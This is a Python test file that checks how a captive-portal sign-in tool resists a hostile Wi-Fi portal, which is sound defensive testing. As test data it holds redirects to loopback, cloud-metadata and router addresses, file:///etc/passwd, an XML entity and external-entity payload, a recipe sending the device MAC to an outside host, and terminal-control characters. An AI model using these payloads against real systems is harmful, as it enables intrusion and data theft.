"""What a hostile portal may try, and what becomes of it."""

import json
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.simulators.portals import Grant, PortalLink, PortalSpec
from tests.simulators.visitor import visit

from proso.errors import BadRecipe
from proso.values.hotspot import SignIn
from proso.values.weburl import WebUrl
from proso.verdicts.forms import find_offer, values_of
from proso.verdicts.pages import read_page
from proso.verdicts.portal import MAX_FETCHES, PortalSession
from proso.verdicts.portal_talk import (
    Answer,
    Answered,
    Arrived,
    Ask,
    Failed,
    Fetch,
    Finished,
    LinkFacts,
    Verified,
    Waited,
)
from proso.verdicts.probing import ProbeResult, Reach, Response, classify_probes, read_wispr
from proso.verdicts.recipes import parse_recipes

ENTRY = "http://portal.evil.example/start"


def _spec(body, *grants, entry=ENTRY, **pages):
    return PortalSpec("evil", "evil", entry, {"/start": body} | pages, grants)


def _ended(body, *grants, recipes=(), **pages):
    link = PortalLink(_spec(body, *grants, **pages))
    return visit(link, recipes), link


def _recipes(**changes):
    row = {
        "id": "r",
        "version": 1,
        "sign_in": "consent",
        "match": {"path": "/start"},
        "steps": [{"do": "submit"}],
    } | changes
    return parse_recipes(json.dumps({"recipes": [row]}).encode())


@pytest.mark.parametrize(
    "body",
    ["<b>" * 170_000, "<i></i>" * 70_000, "<form>" + "<input name=a>" * 30_000, "<" * 500_000],
    ids=["deep", "wide", "inputs", "brackets"],
)
def test_a_page_with_a_billion_nodes_ends_quickly(body):
    begun = time.perf_counter()
    done, _ = _ended(body)
    assert not done.finished.is_online
    assert time.perf_counter() - begun < 5


def test_a_page_without_end_is_given_up():
    class Endless(PortalLink):
        def fetch(self, request):
            n = len(self.fetched)
            self.fetched.append(request.url.text)
            body = f"{'x' * 600_000}<meta http-equiv=refresh content='0;url=/{n}'>".encode()
            return Response(
                request.url, 200, (), body if n else b"<form><button>Go</button></form>"
            )

    done = visit(Endless(_spec("")))
    assert not done.finished.is_online


def test_an_endless_redirect_ends():
    class Circle(PortalLink):
        def fetch(self, request):
            self.fetched.append(request.url.text)
            where = f"http://portal.evil.example/{len(self.fetched)}"
            return Response(request.url, 302, (("Location", where),), b"")

    link = Circle(_spec(""))
    done = visit(link)
    assert done.finished.sign_in is SignIn.BROKEN
    assert len(link.fetched) <= MAX_FETCHES


@pytest.mark.parametrize(
    "target",
    [
        "http://127.0.0.1:631/printers",
        "http://[::1]/",
        "http://[::ffff:127.0.0.1]/",
        "http://localhost/admin",
        "http://0.0.0.0/",
        "http://169.254.169.254/latest/meta-data",
        "http://192.168.7.1/apply.cgi?dns=6.6.6.6",
        "http://192.168.1.254/reboot",
        "http://10.0.0.1/",
        "http://printer.local/",
        "file:///etc/passwd",
        "ftp://portal.evil.example/x",
        "javascript:alert(1)",
        "data:text/html,x",
        "http://user:password@portal.evil.example/",
        "http://router.internal/",
    ],
)
@pytest.mark.parametrize("by", ["redirect", "meta", "form", "link"])
def test_a_redirect_to_loopback_router_or_file_is_not_followed(target, by):
    pages = {
        "redirect": target,
        "meta": f"<meta http-equiv=refresh content='0;url={target}'>",
        "form": f"<form action='{target}' method=post><button>Connect</button></form>",
        "link": f"<a href='{target}'>Connect to the internet</a>",
    }
    link = PortalLink(_spec(pages["meta"] if by != "redirect" else "x"))
    if by == "redirect":
        link.spec.pages["/start"] = target if target.startswith("http") else "x"
    elif by in {"form", "link"}:
        link.spec.pages["/start"] = pages[by]
    visit(link)
    host = target.split("/")[2] if "//" in target else ""
    assert not any(host and host in url.split("/")[2] for url in link.fetched if url != ENTRY) or (
        "portal.evil.example" in host and "@" not in host and not target.startswith("ftp")
    )
    assert target not in link.fetched


def test_a_first_redirect_to_this_machine_is_not_followed():
    link = PortalLink(_spec("", entry="http://127.0.0.1:8080/"))
    assert visit(link).finished.why == "it leads to this machine"
    assert len(link.fetched) == 1


def test_an_e_mail_field_hidden_by_css_is_never_filled_and_never_asked_for():
    body = """<style>.away{position:absolute;left:-9999px}</style><form action=/go method=post>
    <div class=away><input type=email name=email required></div>
    <div style="display:none"><input name=phone></div><button>Connect</button></form>"""
    done, link = _ended(body, Grant("/go", {"email": None}))
    assert not link.personal
    assert not done.asked[0].wanted


def test_an_e_mail_field_in_sight_is_the_persons_to_fill():
    body = (
        "<form action=/go method=post><input type=email name=email><button>Connect</button></form>"
    )
    grant = Grant("/go", {"email": None})
    silent, link = _ended(body, grant)
    assert not link.submissions
    assert silent.finished.sign_in is SignIn.ACCOUNT
    link = PortalLink(_spec(body, grant))
    assert visit(link, typed={"email": "me@example.org"}).finished.is_online


def test_a_paid_option_chosen_beforehand_is_not_bought():
    body = """<form action=/buy method=post><select name=plan>
    <option value=gold selected>Gold 19.99 EUR</option><option value=none>Free of charge</option>
    </select><button>Connect</button></form>"""
    done, link = _ended(body, Grant("/buy", {"plan": "none"}))
    assert done.finished.is_online
    only_paid = body.replace("<option value=none>Free of charge</option>", "")
    done, link = _ended(only_paid, Grant("/buy", {"plan": "gold"}))
    assert not link.submissions
    assert done.finished.sign_in is SignIn.PAYMENT


def test_a_ticked_box_that_costs_money_stops_the_form():
    body = """<form action=/go method=post><label><input type=checkbox name=x checked> Insurance
    4.99 EUR</label><button>Connect</button></form>"""
    _, link = _ended(body, Grant("/go", {}))
    assert not link.submissions


def test_consent_that_a_script_would_give_is_asked_for():
    body = """<form action=/go method=post><input type=hidden name=accept_terms value=1></form>
    <script>document.forms[0].submit()</script>"""
    done, _ = _ended(body, Grant("/go", {"accept_terms": "1"}))
    assert done.unasked == 0
    assert done.asked


def test_a_page_that_hands_on_a_session_by_itself_needs_no_question():
    body = """<form action=/hand method=post><input type=hidden name=sid value=7></form>
    <script>document.forms[0].submit()</script>"""
    following = {"/next": "<form action=/go method=post><button>Accept</button></form>"}
    grant = Grant("/hand", {"sid": "7"}, then="/next", opens=False)
    done, link = _ended(body, grant, **following)
    assert link.submissions[0].endswith("/hand")
    assert done.asked


def test_a_page_that_lost_its_encryption_gets_nothing():
    body = "<form action='http://portal.evil.example/go' method=post><button>Accept</button></form>"
    link = PortalLink(_spec(body, Grant("/go", {}), entry="https://portal.evil.example/start"))
    done = visit(link)
    assert not link.submissions
    assert "plain HTTP" in done.finished.why


def test_a_wispr_message_with_entities_is_read_without_them():
    bomb = b"""<!-- <?xml version="1.0"?><!DOCTYPE x [
    <!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY f SYSTEM "file:///etc/passwd">]><WISPAccessGatewayParam><Redirect>
    <MessageType>100</MessageType><LocationName>&b;&f;</LocationName>
    <LoginURL>http://portal.example/login?a=1&b=2</LoginURL></Redirect></WISPAccessGatewayParam>-->"""
    found = read_wispr(bomb)
    assert found.message == 100
    assert found.login.text == "http://portal.example/login?a=1&b=2"
    assert "root:" not in found.location
    assert "aaaa" not in found.location


def test_a_recipe_cannot_loop():
    many = [{"do": "submit"}] * 13
    with pytest.raises(BadRecipe):
        _recipes(steps=many)
    body = "<form action=/start method=post><button>Accept</button></form>"
    done, link = _ended(body, recipes=_recipes(steps=[{"do": "submit"}, {"do": "verify"}] * 6))
    assert not done.finished.is_online
    assert len(link.fetched) <= MAX_FETCHES


def test_a_recipe_that_posts_elsewhere_than_it_matched_sends_nothing():
    body = "<form action='http://collector.example/x' method=post><button>Accept</button></form>"
    done, link = _ended(body, Grant("/x", {}), recipes=_recipes())
    assert not link.submissions
    assert "elsewhere" in done.finished.why
    done, link = _ended(
        "<form action=/go method=post><button>Accept</button></form>",
        recipes=_recipes(steps=[{"do": "get", "url": "http://collector.example/{query.mac}"}]),
    )
    assert not any("collector" in url for url in link.fetched)


@pytest.mark.parametrize(
    "changes",
    [
        {"match": {}},
        {"id": "../x"},
        {"version": 0},
        {"version": "1"},
        {"sign_in": "magic"},
        {"steps": []},
        {"steps": [{"do": "eval"}]},
        {"steps": [{"do": "submit", "code": "x"}]},
        {"steps": [{"do": "submit", "put": {"email": "a@b.example"}}]},
        {"steps": [{"do": "wait", "seconds": 3600}]},
        {"steps": [{"do": "wait", "seconds": -1}]},
        {"hosts": "evil.example"},
        {"match": {"path": 5}},
        {"match": {"text": "\x1b[2J"}},
        {"extra": 1},
    ],
)
def test_a_recipe_that_may_not_be_run_is_refused(changes):
    with pytest.raises(BadRecipe, match="stay in use"):
        _recipes(**changes)


def test_somebody_who_answers_in_the_place_of_the_witness_is_not_the_internet():
    url = WebUrl.parse("http://probe.example/")
    genuine = ProbeResult(Response(url, 200, (), b"ok"), b"ok")
    for failure in ("certificate", "pin", "timeout"):
        found = classify_probes((genuine,), ProbeResult(None, failure=failure))
        assert found.reach is Reach.TAMPERED


def test_terms_are_shown_without_what_moves_the_cursor():
    body = "<form action=/go method=post>Agree \x1b[2J\u202eevil<button>Accept</button></form>"
    done, _ = _ended(body)
    assert done.asked[0].terms.isprintable()


pages = st.recursive(
    st.sampled_from(
        [
            "<form action=/go method=post><button>Connect</button></form>",
            "<input type=checkbox name=accept>",
            "<a href=/next>continue</a>",
            "<meta http-equiv=refresh content='0;url=/start'>",
            "<script>document.forms[0].submit()</script>",
            "<select name=p><option>9.99 EUR</select>",
            "<form action='http://127.0.0.1/x'><input type=submit value=Accept></form>",
            "<input name=email required>",
        ]
    )
    | st.text(max_size=40),
    lambda parts: st.lists(parts, max_size=4).map("".join),
    max_leaves=12,
)
responses = st.builds(
    lambda path, status, location, body: Response(
        WebUrl.parse(f"http://portal.evil.example{path}"), status, (("Location", location),),
        body.encode("utf-8", "replace"),
    ),
    st.sampled_from(["/start", "/go", "/a?b=c"]),
    st.sampled_from([200, 200, 200, 302, 404, 500, 511]),
    st.sampled_from(["/start", "/go", "http://127.0.0.1/", "", "http://192.168.7.1:2060/x", "::"]),
    pages,
)  # fmt: skip
events = st.one_of(
    responses.map(Arrived),
    st.sampled_from([Failed("timeout"), Waited(), Verified(is_online=False)]),
    st.sampled_from(Answer).map(Answered),
)


@settings(max_examples=300)
@given(st.lists(events, min_size=1, max_size=60))
def test_whatever_happens_a_session_ends_and_leads_nowhere_forbidden(happening):
    session = PortalSession((), LinkFacts("192.168.7.1"))
    request = session.begin(WebUrl.parse(ENTRY), None)
    fetches = 0
    agreed = False
    for clock, event in enumerate(happening):
        if isinstance(request, Finished):
            return
        if isinstance(request, Fetch):
            fetches += 1
            assert request.url.host not in {"127.0.0.1", "localhost"}
            assert request.method == "GET" or agreed or not request.fields
        agreed = agreed or (isinstance(request, Ask) and isinstance(event, Answered))
        request = session.on(event, now=float(clock))
    assert fetches <= MAX_FETCHES + 1


@given(pages)
def test_any_page_is_read_and_its_offer_sends_nothing_personal(body):
    page = read_page(WebUrl.parse(ENTRY), body.encode("utf-8", "replace"))
    offer = find_offer(page)
    if offer is not None and offer.form is not None:
        sent = dict(values_of(offer, {}))
        assert not sent.get("email")
